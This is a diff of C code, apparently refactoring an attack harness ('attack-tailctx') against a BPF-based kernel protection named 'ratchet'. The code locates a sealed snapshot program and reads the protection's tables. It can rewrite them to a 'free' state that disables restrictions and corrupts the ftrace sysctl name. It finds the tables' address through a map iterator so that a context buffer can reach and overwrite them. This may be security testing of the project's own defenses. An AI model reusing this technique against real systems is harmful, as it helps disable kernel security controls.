@@ -22,6 +22,7 @@
 #include <bpf/bpf.h>
 #include <bpf/libbpf.h>
 #include "ratchet.h"
+#include "tables.h"
 #include "attack-tailctx.skel.h"
 
 #define SIZE 12288
@@ -44,33 +45,6 @@ static int run(int fd)
 	if (bpf_prog_test_run_opts(fd, &o))
 		return -errno;
 	return (int)o.retval;
-}
-
-/* A sealed snapshot from a syscall program named like ratchet_snapshot. */
-static int snapshot(struct ratchet_snapshot *s)
-{
-	__u32 id = 0;
-
-	while (!bpf_prog_get_next_id(id, &id)) {
-		LIBBPF_OPTS(bpf_test_run_opts, o, .ctx_in = s,
-			    .ctx_size_in = sizeof(*s));
-		struct bpf_prog_info info = {};
-		__u32 len = sizeof(info);
-		int fd = bpf_prog_get_fd_by_id(id), ok;
-
-		if (fd < 0)
-			continue;
-		memset(s, 0, sizeof(*s));
-		ok = !bpf_obj_get_info_by_fd(fd, &info, &len) &&
-		     info.type == BPF_PROG_TYPE_SYSCALL &&
-		     !strcmp(info.name, "ratchet_snapsho") &&
-		     !bpf_prog_test_run_opts(fd, &o) && !o.retval &&
-		     s->state.pin_dev && s->tables_read;
-		close(fd);
-		if (ok)
-			return 0;
-	}
-	return -1;
 }
 
 /* Run @fd on a context of @n bytes; its return value or -errno. */
@@ -122,7 +96,7 @@ static int reach(struct attack_tailctx *s, const struct ratchet_tables *t)
 	printf("tailctx: no context buffer landed within 64 KiB below the "
 	       "tables (tables at 0x%llx; nearest buffer below them %lld bytes "
 	       "away)\n",
-	       (unsigned long long)s->bss->target, (long long)best);
+	       (unsigned long long)s->bss->found, (long long)best);
 	return 1;
 }
 
@@ -131,33 +105,18 @@ static int reach_tables(struct attack_tailctx *s, const char *how)
 {
 	static struct ratchet_snapshot snap;
 	static struct ratchet_tables t;
-	struct bpf_link *l;
-	char buf[64];
-	FILE *f;
-	int it;
+	const char *what;
+	int err;
 
 	if (snapshot(&snap))
 		return step("read the tables through ratchet_snapshot", ENOENT);
 	t = snap.tables;
-	if (!strcmp(how, "free")) {
-		memset(t.read_kinds, RATCHET_KIND_FREE, sizeof(t.read_kinds));
-		memset(t.load_kinds, RATCHET_KIND_FREE, sizeof(t.load_kinds));
-		t.sysctl_names[RATCHET_SYSCTL_FTRACE_ENABLED][0] = 'X';
-	} else if (!(f = fopen(how, "re")) || fread(&t, sizeof(t), 1, f) != 1) {
-		return step("read the saved tables", errno ?: EIO);
-	}
+	if ((err = tables_wanted(&t, how)))
+		return step("read the saved tables", err);
 	s->bss->want = snap.tables_map.id;
-	l = bpf_program__attach_iter(s->progs.find_tables2, NULL);
-	if (!l)
-		return step("attach a bpf_map iterator", errno);
-	it = bpf_iter_create(bpf_link__fd(l));
-	if (it < 0)
-		return step("create the bpf_map iterator", errno);
-	while (read(it, buf, sizeof(buf)) > 0)
-		;
-	close(it);
-	bpf_link__destroy(l);
-	if (!s->bss->target)
+	if ((err = iter_once(s->progs.find_value, &what)))
+		return step(what, err);
+	if (!s->bss->found)
 		return step("find the tables' address", ENOENT);
 	if (reach(s, &t))
 		return 1;
